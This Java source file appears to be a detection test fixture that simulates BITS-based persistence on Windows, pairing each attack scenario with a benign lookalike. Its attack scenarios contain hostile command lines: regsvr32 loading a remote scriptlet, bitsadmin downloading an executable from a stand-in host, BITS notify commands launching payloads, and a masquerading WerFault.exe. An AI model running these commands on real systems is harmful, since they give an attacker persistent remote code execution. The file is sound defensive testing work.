package org.bitshound.testing.evidence.stories;

import static org.bitshound.testing.evidence.stories.Scene.SYSTEM32;

import java.time.Duration;
import java.util.List;
import org.bitshound.testing.evidence.samples.SampleJob;
import org.bitshound.testing.evidence.samples.SampleProcess;
import org.bitshound.testing.evidence.samples.SampleUser;

/// Jobs that are kept, and what starts because of them.
final class PersistenceStories {
  private static final Duration NIGHT = Duration.ofHours(21);
  private static final String UPDATER =
      "\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe";
  private static final String SETTINGS = "https://g.live.com/odclientsettings/Prod";

  private PersistenceStories() {}

  static List<Twins> all() {
    return List.of(
        new Twins(
            "Staged job with a notify command",
            Story.of(
                    "A job is built step by step, starts a program when it is done, and is never completed",
                    PersistenceStories::stagedAndKept)
                .found("notify-command", "job-persistence-command", "service-child")
                .never("local-source", "cleanup"),
            Story.of(
                "In a change window a job is built step by step and completed",
                PersistenceStories::stagedAndCompleted)),
        new Twins(
            "Local copy as a trigger",
            Story.of(
                    "A local copy of cmd.exe is the trigger of a notify command",
                    PersistenceStories::localTrigger)
                .found("local-source", "notify-command", "job-persistence-command")
                .never("unapproved-url"),
            Story.of(
                "An administrator copies a large file from disk to disk with BITS",
                PersistenceStories::localCopy)),
        new Twins(
            "Scriptlet after a reboot",
            Story.of(
                    "After a reboot the service starts regsvr32 with a scriptlet of the web",
                    PersistenceStories::scriptletAfterReboot)
                .found("service-child", "notify-command"),
            Story.of(
                "The service host starts Windows' error reporting after a reboot",
                PersistenceStories::errorReporting)),
        new Twins(
            "A program named as error reporting",
            Story.of(
                    "The service starts a program of a public folder that has the name of error reporting",
                    PersistenceStories::falseErrorReporting)
                .found("service-child"),
            Story.of(
                "The service host starts error reporting of the other kind",
                PersistenceStories::otherErrorReporting)),
        new Twins(
            "Error as a trigger",
            Story.of(
                    "A job asks the machine itself for what is not there, and starts a program when that fails",
                    PersistenceStories::errorTrigger)
                .found("retrying-job", "notify-command", "job-persistence-command")
                .never("follow-on-execution"),
            Story.of(
                "An updater tries again and again while there is no network",
                PersistenceStories::updaterOffTheNetwork)),
        new Twins(
            "Scheduled creator",
            Story.of(
                    "A task starts a prompt that has bitsadmin fetch a program",
                    PersistenceStories::scheduledPrompt)
                .found("scheduled-creator", "bitsadmin-transfer", "unapproved-url"),
            Story.of(
                "OneDrive's own task fetches its settings", PersistenceStories::scheduledUpdater)),
        new Twins(
            "Built to live long",
            Story.of(
                    "A job is given a year, and tries every minute",
                    PersistenceStories::builtToLiveLong)
                .found("long-lived-job", "retrying-job", "job-persistence-command"),
            Story.of(
                "A component of Edge waits for weeks until the browser runs again",
                PersistenceStories::waitingForTheBrowser)));
  }

  private static Scene stagedAndKept() {
    Scene scene = Scene.watched();
    String url = "https://static.cdn-sync.example/w/check.txt";
    String program = "C:\\ProgramData\\Media\\setup_wm.exe";
    StagedJob.create(scene, scene.promptOf(scene.user), "DefenderSync")
        .add(url, "C:\\ProgramData\\Media\\check.txt")
        .notify(program, "--resident")
        .set("setminretrydelay", "60")
        .resume()
        .fetched(url, 12);
    scene.startedByService(scene.user, program, "--resident");
    return scene;
  }

  private static Scene stagedAndCompleted() {
    Scene scene = Scene.watched().tonight();
    String url = "https://repo.lindenwerk.example/agent/setup.msi";
    StagedJob.create(scene, scene.promptOf(scene.admin), "setup")
        .add(url, "C:\\ProgramData\\Rollout\\setup.msi")
        .resume()
        .fetched(url, 4_112_384)
        .complete();
    return scene;
  }

  private static Scene localTrigger() {
    Scene scene = Scene.watched();
    String source = "c:\\windows\\system32\\cmd.exe";
    StagedJob.create(scene, scene.promptOf(scene.user), "1")
        .add(source, "c:\\data\\playfolder\\cmd.exe")
        .notify("c:\\data\\playfolder\\1.txt:cmd.exe", "NULL")
        .resume()
        .fetched(source, 289_792);
    return scene;
  }

  private static Scene localCopy() {
    Scene scene = Scene.watched();
    String source = "D:\\Images\\base-2026-03.wim";
    String to = "E:\\Staging\\base-2026-03.wim";
    SampleProcess shell = scene.powershell(scene.desktopOf(scene.admin), "-NoProfile");
    Records.script(scene, shell, "Start-BitsTransfer -Source " + source + " -Destination " + to);
    scene.fetch(shell, "BITS Transfer", source, to);
    return scene;
  }

  private static Scene scriptletAfterReboot() {
    Scene scene = Scene.watched();
    scene.host.reboot();
    scene
        .later(NIGHT)
        .startedByService(
            scene.user,
            SYSTEM32 + "regsvr32.exe",
            "/u /s /i:https://static.cdn-sync.example/w/s.sct scrobj.dll");
    return scene;
  }

  private static Scene errorReporting() {
    Scene scene = Scene.watched();
    scene.host.reboot();
    scene
        .later(NIGHT)
        .startedByService(
            SampleUser.SYSTEM,
            SYSTEM32 + "wermgr.exe",
            SYSTEM32 + "wermgr.exe -outproc 0 1372 -queuereporting");
    return scene;
  }

  private static Scene falseErrorReporting() {
    Scene scene = Scene.watched();
    String program = "C:\\Users\\Public\\WerFault.exe";
    scene.startedByService(scene.user, program, program + " -u -p 1372 -s 604");
    return scene;
  }

  private static Scene otherErrorReporting() {
    Scene scene = Scene.watched();
    String program = SYSTEM32 + "WerFault.exe";
    scene.startedByService(SampleUser.SYSTEM, program, program + " -u -p 1372 -s 604");
    return scene;
  }

  private static Scene errorTrigger() {
    Scene scene = Scene.watched();
    String url = "http://127.0.0.1/sysupd/none.dat";
    StagedJob.create(scene, scene.promptOf(scene.user), "sysupd")
        .add(url, "C:\\ProgramData\\Media\\none.dat")
        .notify("C:\\ProgramData\\Media\\mail.exe", "NULL")
        .set("setnotifyflags", "2")
        .resume()
        .failed(url, SampleJob.CANNOT_CONNECT, 3);
    return scene;
  }

  private static Scene updaterOffTheNetwork() {
    Scene scene = Scene.unwatched();
    SampleProcess updater = oneDrive(scene);
    String to = scene.user.shortProfile() + "\\AppData\\Local\\Temp\\wct1F0C.tmp";
    SampleJob job =
        scene.job("PreSignInSettingsConfigJSON", updater).addFile(SETTINGS, to, updater);
    for (int i = 0; i < 30; i++) {
      job.after(600_000).fail(SETTINGS, SampleJob.NAME_NOT_RESOLVED);
    }
    scene.till(job.fetch(SETTINGS, 51_164, Scene.MODIFIED, 512).complete());
    return scene;
  }

  private static SampleProcess oneDrive(Scene scene) {
    String program = scene.user.profile() + UPDATER;
    return scene.start(scheduler(scene), program, program);
  }

  /// A task of the user's own is started in his name.
  private static SampleProcess scheduler(Scene scene) {
    return scene.running(
        scene.user,
        SYSTEM32 + "svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule");
  }

  private static Scene scheduledPrompt() {
    Scene scene = Scene.watched();
    String url = "https://static.cdn-sync.example/w/sync.exe";
    String to = "C:\\ProgramData\\Media\\sync.exe";
    SampleProcess shell =
        scene.start(
            scheduler(scene), Scene.CMD, "cmd.exe /c bitsadmin /transfer sync " + url + " " + to);
    scene.transfer(shell, "sync", url, to);
    return scene;
  }

  private static Scene scheduledUpdater() {
    Scene scene = Scene.watched();
    scene.fetch(
        oneDrive(scene),
        "PreSignInSettingsConfigJSON",
        SETTINGS,
        scene.user.shortProfile() + "\\AppData\\Local\\Temp\\wct2A91.tmp");
    return scene;
  }

  private static Scene builtToLiveLong() {
    Scene scene = Scene.watched();
    String url = "https://static.cdn-sync.example/w/check.txt";
    StagedJob.create(scene, scene.promptOf(scene.user), "keep")
        .add(url, "C:\\ProgramData\\Media\\check.txt")
        .set("setmaxdownloadtime", "31536000")
        .set("setminretrydelay", "60")
        .resume()
        .failed(url, SampleJob.NAME_NOT_RESOLVED, 4);
    return scene;
  }

  private static Scene waitingForTheBrowser() {
    Scene scene = Scene.unwatched();
    String program = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe";
    SampleProcess edge = scene.running(scene.user, program, "\"" + program + "\"");
    String file = "9c1f7a52-64d1-4b0e-8f0e-7a3d51c0e2b4";
    String url =
        "http://msedge.b.tlu.dl.delivery.mp.microsoft.com/filestreamingservice/files/" + file;
    SampleJob job =
        scene
            .job("Edge Component Updater", edge)
            .addFile(
                url,
                scene.user.shortProfile() + "\\AppData\\Local\\Temp\\edge_BITS_812_44\\" + file,
                edge)
            .fetch(url, 21_402, Scene.MODIFIED, 384)
            .after(Duration.ofDays(19).toMillis())
            .complete();
    scene.till(job);
    return scene;
  }
}
